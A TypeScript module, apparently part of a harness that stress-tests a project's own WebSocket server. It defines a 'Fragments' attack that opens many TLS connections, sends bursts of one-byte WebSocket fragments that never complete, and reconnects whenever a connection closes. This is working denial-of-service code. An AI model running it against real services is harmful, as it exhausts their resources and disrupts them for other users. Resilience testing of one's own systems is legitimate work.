import type { TLSSocket } from 'node:tls';
import { aPerson, type Person } from '../member';
import { openRawLine, webSocketFrame } from '../raw-line';
import type { Attack, Tally, Target } from './attacker';

const FIRST = webSocketFrame({ payload: Buffer.from('['), fin: false });
const NEXT = webSocketFrame({ payload: Buffer.from('1'), opcode: 0, fin: false });

/** Messages in fragments of one byte that never end: `burst` of them at once, again after every close; or 60 and no more. */
export class Fragments implements Attack {
  readonly #lines = new Set<TLSSocket>();
  #sent = 0;
  #opened = 0;
  #stopped = false;

  static async begin(input: Target & { sockets: number; burst: number }): Promise<Attack> {
    const fragments = new Fragments();
    const people = await Promise.all(Array.from({ length: input.sockets }, (_, n) => aPerson(`Fragments ${n}`)));
    await Promise.all(people.map((person) => fragments.#open(input, person)));
    return fragments;
  }

  tally(): Tally {
    return { fragments: this.#sent, lines: this.#opened };
  }

  stop(): void {
    this.#stopped = true;
    for (const line of this.#lines) line.destroy();
  }

  async #open(input: Target & { burst: number }, person: Person): Promise<void> {
    const line = await openRawLine(input.host, person, { localAddress: input.from });
    this.#lines.add(line);
    this.#opened += 1;
    line.resume();
    line.once('close', () => {
      this.#lines.delete(line);
      if (!this.#stopped) this.#open(input, person).catch(() => undefined);
    });
    line.write(Buffer.concat([FIRST, ...Array.from({ length: input.burst - 1 }, () => NEXT)]));
    this.#sent += input.burst;
  }
}
